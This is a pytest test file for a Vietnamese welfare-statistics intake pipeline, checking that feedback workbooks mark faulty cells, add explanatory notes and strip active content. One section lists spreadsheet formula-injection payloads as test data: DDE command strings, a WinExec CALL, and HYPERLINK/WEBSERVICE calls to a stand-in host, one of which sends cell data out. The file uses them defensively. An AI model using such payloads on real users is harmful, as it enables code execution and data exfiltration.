"""Feedback files: cells with findings are marked, all else stays, and nothing in them can run."""

import datetime as dt
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from time import perf_counter
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.worksheet import Worksheet

from formats import WRITERS, Looks, Sheets, as_xlsx
from intake import DAY, run, save
from packages import SHEET, added, repacked, replaced, unpacked
from welfare_stats.design.catalogue import Catalogue
from welfare_stats.feedback.annotate import annotated
from welfare_stats.feedback.copy import is_harmless
from welfare_stats.feedback.returned import Returned
from welfare_stats.feedback.summary import TITLE
from welfare_stats.findings import Finding, Severity
from welfare_stats.pipeline.ingest import ingest
from welfare_stats.validate.assess import assess
from welfare_stats.workspace import Workspace
from workbooks import centre, district, home, put


def findings_of(content: bytes, catalogue: Catalogue, suffix: str = ".xlsx") -> tuple[Finding, ...]:
    return assess(content, f"data/raw/2018/tệp{suffix}", catalogue).findings


def feedback(
    content: bytes, findings: tuple[Finding, ...], name: str = "tệp.xlsx"
) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(annotated(Returned(name, content, findings))))


def cells(sheet: Worksheet) -> dict[str, Any]:
    return {c.coordinate: c.value for row in sheet.iter_rows() for c in row if c.value is not None}


def marked(book: openpyxl.Workbook) -> set[tuple[str, str]]:
    """The cells of the sender's sheets that have a comment or a colour."""
    return {
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        if sheet.title != TITLE
        for row in sheet.iter_rows()
        for cell in row
        if cell.comment is not None or cell.fill.fill_type is not None
    }


def faulty() -> Sheets:
    sheets = put(put(district(), "HX-01!G7", 26.85), "HX-01!B8", "sai_ma")
    put(put(sheets, "HX-02!F7", "nhiều"), "HX-02!E8", "70 người")
    return put(sheets, "HX-01!D9", "800")


@pytest.mark.parametrize("suffix", list(WRITERS))
def test_exactly_the_cells_of_the_findings_are_marked(suffix: str, catalogue: Catalogue) -> None:
    content = WRITERS[suffix](faulty(), Looks(merged=((0, 0, 0, 4),)))
    found = findings_of(content, catalogue, suffix)
    book = feedback(content, found)
    assert book.sheetnames == [TITLE, "HX-01", "HX-02"]
    asking = {(f.sheet, f.cell) for f in found if f.severity is not Severity.INFO}
    assert asking == {("HX-01", "G7"), ("HX-01", "B8"), ("HX-02", "F7"), ("HX-02", "E8")}
    assert marked(book) == asking
    sent = openpyxl.load_workbook(BytesIO(as_xlsx(faulty())))
    for name in ("HX-01", "HX-02"):
        assert cells(book[name]) == cells(sent[name])
        assert book[name].merged_cells.ranges != set()


def test_a_note_says_what_is_wrong_and_what_to_do(catalogue: Catalogue) -> None:
    content = as_xlsx(put(district(), "HX-01!G7", 26.85))
    note = feedback(content, findings_of(content, catalogue))["HX-01"]["G7"].comment
    assert note is not None
    assert note.text == (
        "LỖI: Cột “Cuối kỳ”: số đếm phải là số nguyên, ô có giá trị 26,85.\n"
        "→ Có thể Excel đã đổi 26.850 thành 26,85: nếu số đúng là 26.850 thì gõ 26850, không gõ "
        "dấu chấm; xem lại cả cột, vì 1.000 có thể đã thành 1."
    )


def test_the_first_sheet_lists_everything_errors_first_with_links(catalogue: Catalogue) -> None:
    content = as_xlsx(faulty())
    sheet = feedback(content, findings_of(content, catalogue), "báo cáo.xlsx")[TITLE]
    lines = [[c.value for c in row] for row in sheet.iter_rows()]
    assert lines[0][0] == "KẾT QUẢ KIỂM TRA BÁO CÁO"
    assert lines[1][0] == "Tệp: báo cáo.xlsx"
    assert lines[2][0] == (
        "Có 3 lỗi và 1 cảnh báo. Số liệu của tệp chưa được tổng hợp cho đến khi sửa hết lỗi."
    )
    groups = [line[0] for line in lines[6:] if isinstance(line[0], str)]
    assert groups == [
        "Lỗi: Số đếm có phần lẻ",
        "Lỗi: Không phải là số",
        "Lỗi: Mã chỉ tiêu không có trong danh mục",
        "Cảnh báo: Ô số có kèm chữ",
        "Lưu ý: Số ghi dạng chữ",
    ]
    links = {c.value: c.hyperlink.location for c in sheet["C"] if c.hyperlink}
    assert links == {
        "G7": "'HX-01'!G7", "F7": "'HX-02'!F7", "B8": "'HX-01'!B8", "E8": "'HX-02'!E8",
        "D9": "'HX-01'!D9",
    }  # fmt: skip


def test_many_infos_of_one_kind_are_one_line(catalogue: Catalogue) -> None:
    sheets = district()
    for row in sheets["HX-01"][6:9]:
        row[3:10] = [str(number) for number in row[3:10]]
    content = as_xlsx(put(sheets, "HX-02!F7", "nhiều"))
    book = feedback(content, findings_of(content, catalogue))
    (line,) = [row for row in book[TITLE].iter_rows(min_row=9) if row[1].value == "HX-01"]
    assert "E7, F7, G7" in str(line[3].value)
    assert "(tất cả 21 ô)" not in str(line[3].value)
    assert marked(book) == {("HX-02", "F7")}


OFFICE = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


@pytest.mark.parametrize("element", [b"drawing", b"legacyDrawing", b"picture"])
def test_a_sheet_whose_relations_are_incomplete_is_read_and_answered(
    element: bytes, catalogue: Catalogue
) -> None:
    nowhere = b"<" + element + b" " + OFFICE + b' r:id="rId99"/></worksheet>'
    content = repacked(
        as_xlsx(put(district(), "HX-01!G7", -1)), replaced(SHEET, b"</worksheet>", nowhere)
    )
    findings = findings_of(content, catalogue)
    assert [finding.code for finding in findings] == ["cell.negative"]
    book = openpyxl.load_workbook(BytesIO(annotated(Returned("a.xlsx", content, findings))))
    assert {"HX-01", "G7"} <= {cell.value for row in book.worksheets[0].iter_rows() for cell in row}


def test_a_file_that_cannot_be_opened_gets_the_list_alone() -> None:
    finding = Finding("file.damaged", Severity.ERROR, None, None, None, "Tệp hỏng.", "Gửi lại.")
    book = feedback(b"PK\x03\x04", (finding,))
    assert book.sheetnames == [TITLE]
    assert "Cả tệp" in [cell.value for cell in book[TITLE]["B"]]


def test_a_corrected_feedback_file_can_be_sent_back(catalogue: Catalogue) -> None:
    content = as_xlsx(put(district(), "HX-01!G7", 26.85))
    first = annotated(Returned("tệp.xlsx", content, findings_of(content, catalogue)))
    book = openpyxl.load_workbook(BytesIO(first))
    book["HX-01"]["G7"] = 105
    corrected = BytesIO()
    book.save(corrected)
    assert findings_of(corrected.getvalue(), catalogue) == ()
    book["HX-01"]["G8"] = "sai"
    wrong_again = BytesIO()
    book.save(wrong_again)
    again = findings_of(wrong_again.getvalue(), catalogue)
    assert marked(feedback(wrong_again.getvalue(), again)) == {("HX-01", "G8")}


def test_a_note_of_the_sender_stays_and_ours_goes_once_the_cell_is_corrected(
    catalogue: Catalogue,
) -> None:
    sent = openpyxl.load_workbook(BytesIO(as_xlsx(put(district(), "HX-01!G7", 26.85))))
    sent["HX-01"]["G7"].comment = Comment("Theo công văn 12", "Huyện")
    buffer = BytesIO()
    sent.save(buffer)
    book = feedback(buffer.getvalue(), findings_of(buffer.getvalue(), catalogue))
    note = book["HX-01"]["G7"].comment
    assert note is not None
    assert note.text.endswith("\n\nGhi chú của người gửi: Theo công văn 12")
    book["HX-01"]["G7"] = 105
    buffer = BytesIO()
    book.save(buffer)
    note = feedback(buffer.getvalue(), ())["HX-01"]["G7"].comment
    assert note is not None
    assert note.text == "Theo công văn 12"


def test_two_findings_under_one_merged_cell_are_one_note(catalogue: Catalogue) -> None:
    sheets = put(home(), "CS-01!B7", "CSTG-99")
    content = as_xlsx(put(sheets, "CS-01!B8", None), Looks(merged=((6, 1, 7, 1),)))
    book = feedback(content, findings_of(content, catalogue))
    note = book["CS-01"]["B7"].comment
    assert note is not None
    assert note.text.count("LỖI: ") == 2
    assert "Ghi chú của người gửi" not in note.text


# --- nothing in it can run ----------------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://xau.example/?"&A1,"bấm vào đây")',
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://xau.example")',
    "=[1]Sheet1!A1",
    "='C:\\x\\[y.xlsx]A'!A1",
    '=IMPORTXML("http://xau.example","//a")',
    "=EXEC(1)",
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '+cmd|"/c calc"!A1',
]


@pytest.mark.parametrize("formula", ATTACKS)
def test_a_formula_that_does_more_than_compute_becomes_text(
    formula: str, catalogue: Catalogue
) -> None:
    content = as_xlsx(put(put(district(), "HX-01!L7", formula), "HX-01!A1", formula))
    found = findings_of(content, catalogue)
    book = feedback(content, found, formula.replace("/", " ") + ".xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert book["HX-01"]["A1"].value == formula


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(D7:D9)",
        "=D7+E7-F7",
        '=IF(COUNT(E10:E17)=0,"",SUM(E10:E17))',
        "=ROUND('HX-02'!E7/2,0)",
    ],
)
def test_a_formula_that_only_computes_stays_a_formula(formula: str) -> None:
    assert is_harmless(formula)
    book = feedback(as_xlsx(put(district(), "HX-01!D10", formula)), ())
    assert book["HX-01"]["D10"].value == formula


def test_validations_that_only_compute_stay_and_others_go(catalogue: Catalogue) -> None:
    source = openpyxl.load_workbook(BytesIO(as_xlsx(district())))
    sheet = source["HX-01"]
    for formula in ("AND(ISNUMBER(H7),H7>G7)", 'WEBSERVICE("http://xau.example")=""'):
        rule = FormulaRule(formula=[formula])  # type: ignore[no-untyped-call]
        sheet.conditional_formatting.add("H7:H9", rule)
        validation = DataValidation("custom", formula1=formula)
        validation.add("H7")
        sheet.add_data_validation(validation)
    buffer = BytesIO()
    source.save(buffer)
    kept = feedback(buffer.getvalue(), ())["HX-01"]
    rules = [rule.formula for area in kept.conditional_formatting for rule in area.rules]
    assert rules == [["AND(ISNUMBER(H7),H7>G7)"]]
    assert [v.formula1 for v in kept.data_validations.dataValidation] == ["AND(ISNUMBER(H7),H7>G7)"]


def test_marks_saved_by_libreoffice_are_removed_too(
    tmp_path: Path, soffice: Callable[[Path, str], Path], catalogue: Catalogue
) -> None:
    content = as_xlsx(put(district(), "HX-01!G7", 26.85))
    file = tmp_path / "phan-hoi.xlsx"
    file.write_bytes(annotated(Returned("tệp.xlsx", content, findings_of(content, catalogue))))
    book = openpyxl.load_workbook(soffice(file, "xlsx"))
    book["HX-01"]["G7"], book["HX-01"]["G8"] = 105, "sai"
    buffer = BytesIO()
    book.save(buffer)
    again = findings_of(buffer.getvalue(), catalogue)
    assert marked(feedback(buffer.getvalue(), again)) == {("HX-01", "G8")}


def test_macros_links_and_pictures_do_not_come_along(catalogue: Catalogue) -> None:
    source = openpyxl.load_workbook(BytesIO(as_xlsx(district())))
    source["HX-01"]["A2"].hyperlink = "http://xau.example"
    source["HX-01"]["A3"].hyperlink = Hyperlink(
        ref="A3", target="http://xau.example", location="A1"
    )
    source["HX-01"].defined_names["Tong"] = openpyxl.workbook.defined_name.DefinedName(
        "Tong", attr_text='WEBSERVICE("http://xau.example")'
    )
    source["HX-01"]["L8"] = "=Tong"
    source.defined_names["Auto_Open"] = openpyxl.workbook.defined_name.DefinedName(
        "Auto_Open", attr_text="[1]Macro!$A$1"
    )
    buffer = BytesIO()
    source.save(buffer)
    content = repacked(buffer.getvalue(), added("xl/vbaProject.bin", b"x"))
    made = annotated(Returned("tệp.xlsm", content, findings_of(content, catalogue)))
    assert b"vbaProject" not in made
    book = openpyxl.load_workbook(BytesIO(made))
    assert dict(book.defined_names) == {}
    assert book["HX-01"]["A2"].hyperlink is book["HX-01"]["A3"].hyperlink is None
    members = unpacked(made)
    assert b"WEBSERVICE" not in members["xl/workbook.xml"]
    assert not [name for name in members if b"xau.example" in members[name] and "rels" in name]
    assert (book["HX-01"]["L8"].value, book["HX-01"]["L8"].data_type) == ("=Tong", "s")


# --- the folder ----------------------------------------------------------------------------------


def folder(workspace: Workspace) -> list[str]:
    return sorted(path.name for path in workspace.feedback.glob("*"))


def test_feedback_is_written_for_returned_files_and_removed_once_good_ones_come(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    save(workspace, "a.xlsx", home())
    save(workspace, "b.xls", WRITERS[".xls"](put(district(), "HX-01!G7", 1.5), Looks()))
    save(workspace, "c.ods", b"hong")
    run(workspace, catalogue)
    assert folder(workspace) == ["b.xls.phan-hoi.xlsx", "c.ods.phan-hoi.xlsx"]
    before = {path: path.stat().st_mtime_ns for path in workspace.feedback.iterdir()}
    run(workspace, catalogue)
    assert {path: path.stat().st_mtime_ns for path in workspace.feedback.iterdir()} == before
    save(workspace, "b sua.xlsx", district())  # under another name
    (workspace.raw / "2018" / "c.ods").write_bytes(WRITERS[".ods"](centre(), Looks()))
    run(workspace, catalogue)
    assert folder(workspace) == []


def test_what_a_killed_run_did_not_write_the_next_writes(
    workspace: Workspace, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))

    def killed(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr("welfare_stats.pipeline.ingest.update_feedback", killed)
        with pytest.raises(KeyboardInterrupt):
            run(workspace, catalogue)
    assert folder(workspace) == []
    assert run(workspace, catalogue) == ["a.xlsx: unchanged"]
    assert folder(workspace) == ["a.xlsx.phan-hoi.xlsx"]


def test_a_feedback_file_open_in_excel_stops_nothing(
    workspace: Workspace, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))
    run(workspace, catalogue)

    def refuse(*_: object, **__: object) -> None:
        raise PermissionError(13, "in use")

    save(workspace, "a.xlsx", home())
    with monkeypatch.context() as patched:
        patched.setattr(Path, "unlink", refuse)
        assert run(workspace, catalogue) == ["a.xlsx: accepted"]
    assert folder(workspace) == ["a.xlsx.phan-hoi.xlsx"]
    run(workspace, catalogue)
    assert folder(workspace) == []
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "ít"))
    with monkeypatch.context() as patched:
        patched.setattr("welfare_stats.pipeline.replies.write_atomically", refuse)
        assert run(workspace, catalogue) == ["a.xlsx: rejected"]
    run(workspace, catalogue)
    assert folder(workspace) == ["a.xlsx.phan-hoi.xlsx"]


def test_a_folder_that_cannot_be_written_loses_no_verdict(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    workspace.feedback.write_text("đây là tệp, không phải thư mục")
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))
    assert run(workspace, catalogue) == ["a.xlsx: rejected"]


def test_files_of_one_name_have_feedback_of_their_own(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    faulty_home = put(home(), "CS-01!G7", "nhiều")
    save(workspace, "a.xlsx", faulty_home)
    save(workspace, "../2019/a.xlsx", put(faulty_home, "CS-01!G8", "ít"))
    run(workspace, catalogue)
    assert folder(workspace) == ["a.xlsx (2019).phan-hoi.xlsx", "a.xlsx.phan-hoi.xlsx"]


def test_feedback_for_two_units_of_one_file_name_names_the_units(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))
    save(workspace, "tu huyen/A.xlsx", put(district(), "HX-01!G7", "nhiều"))
    save(workspace, "b.xlsx", put(home(("CSTG-02", "Cơ sở số 2")), "CS-01!G7", "nhiều"))
    run(workspace, catalogue)
    assert folder(workspace) == [
        "A.xlsx (170).phan-hoi.xlsx",
        "a.xlsx (CSTG-01).phan-hoi.xlsx",
        "b.xlsx.phan-hoi.xlsx",
    ]


def test_feedback_of_long_names_names_the_units_too(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    name = "báo cáo " * 20 + ".xlsx"
    save(workspace, name, put(home(), "CS-01!G7", "nhiều"))
    save(workspace, f"x/{name}", put(district(), "HX-01!G7", "nhiều"))
    run(workspace, catalogue)
    names = folder(workspace)
    assert [n.partition("(")[2] for n in names] == ["170).phan-hoi.xlsx", "CSTG-01).phan-hoi.xlsx"]
    assert all(len(n.encode()) <= 255 for n in names)


@pytest.mark.parametrize(
    ("today", "words"),
    [
        (dt.date(2018, 9, 3), "rồi gửi lại cả tệp, chậm nhất ngày 04/9/2018."),
        (dt.date(2018, 9, 4), "rồi gửi lại cả tệp, chậm nhất ngày 04/9/2018."),
        (dt.date(2018, 9, 5), "rồi gửi lại cả tệp sớm nhất có thể."),
    ],
)
def test_feedback_says_by_when_to_send_again(
    today: dt.date,
    words: str,
    workspace: Workspace,
    catalogue: Catalogue,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for module in ("ingest", "replies"):
        monkeypatch.setattr(f"welfare_stats.pipeline.{module}.today", lambda: today)
    save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))
    ingest(workspace, catalogue)
    (path,) = workspace.feedback.iterdir()
    sheet = openpyxl.load_workbook(path)[TITLE]
    assert "CSTG-01 – Trung tâm Bảo trợ xã hội" in sheet["A3"].value
    assert sheet["A5"].value.endswith(words)


@pytest.mark.parametrize("name", ["a" * 250 + ".xlsx", "hai\ndòng.xlsx", "báo cáo" * 20 + ".xlsx"])
def test_any_name_has_feedback(name: str, workspace: Workspace, catalogue: Catalogue) -> None:
    save(workspace, name, put(home(), "CS-01!G7", "nhiều"))
    run(workspace, catalogue)
    (made,) = workspace.feedback.iterdir()
    assert openpyxl.load_workbook(made).sheetnames == [TITLE, "CS-01"]


def test_a_file_too_large_to_be_read_has_feedback_too(
    workspace: Workspace, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("welfare_stats.collect.inbox.MOST_BYTES_OF_A_FILE", 1000)
    save(workspace, "a.xlsx", home())
    run(workspace, catalogue)
    assert folder(workspace) == ["a.xlsx.phan-hoi.xlsx"]


def test_a_long_list_with_many_faults_is_answered_quickly(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    rows = centre()["DS-01"]
    people = [
        [n, f"HS-{n}", f"Người Mẫu {n}", dt.date(1990, 1, 1), "N" if n % 10 == 0 else "Nam", "Kinh",
         None, "Xã La Hiên", "CSTG-04", "can_thiep", dt.date(2018, 3, 5)]
        for n in range(1, 5001)
    ]  # fmt: skip
    path = save(workspace, "a.xlsx", {"DS-01": [*rows[:6], *people]})
    start = perf_counter()
    (result,) = ingest(workspace, catalogue, received_on=DAY)
    assert len(result.findings) == 500
    assert perf_counter() - start < 20  # alone it takes 5 s; the tests run side by side
    book = openpyxl.load_workbook(workspace.feedback / f"{path.name}.phan-hoi.xlsx")
    assert len(marked(book)) == 500


def test_libreoffice_opens_a_feedback_file(
    tmp_path: Path, soffice: Callable[[Path, str], Path], catalogue: Catalogue
) -> None:
    content = as_xlsx(faulty())
    file = tmp_path / "phan-hoi.xlsx"
    file.write_bytes(annotated(Returned("tệp.xlsx", content, findings_of(content, catalogue))))
    saved = openpyxl.load_workbook(soffice(file, "ods") and soffice(file, "xlsx"))
    assert saved.sheetnames == [TITLE, "HX-01", "HX-02"]
    assert saved["HX-01"]["G7"].comment is not None


def test_a_good_file_of_another_period_does_not_remove_feedback(
    workspace: Workspace, catalogue: Catalogue
) -> None:
    half = district(period="từ ngày 01/01/2018 đến ngày 30/6/2018")
    save(workspace, "a.xlsx", put(half, "HX-01!G7", 26.85))
    save(workspace, "b.xlsx", district())
    ingest(workspace, catalogue, received_on=DAY)
    (path,) = workspace.feedback.iterdir()
    assert path.name == "a.xlsx.phan-hoi.xlsx"
    assert openpyxl.load_workbook(path)[TITLE]["A3"].value == (
        "Đơn vị báo cáo: 170 – Phòng Lao động - Thương binh và Xã hội huyện Võ Nhai; "
        "biểu HX-01, HX-02; kỳ từ 01/01/2018 đến 30/6/2018; nhận ngày 03/9/2018."
    )
    (unchanged, _) = ingest(workspace, catalogue, received_on=DAY)
    assert unchanged.still_returned
    put(half, "HX-01!G7", 105)
    save(workspace, "c.xlsx", half)
    ingest(workspace, catalogue, received_on=DAY)
    assert list(workspace.feedback.iterdir()) == []
    assert not any(r.still_returned for r in ingest(workspace, catalogue, received_on=DAY))
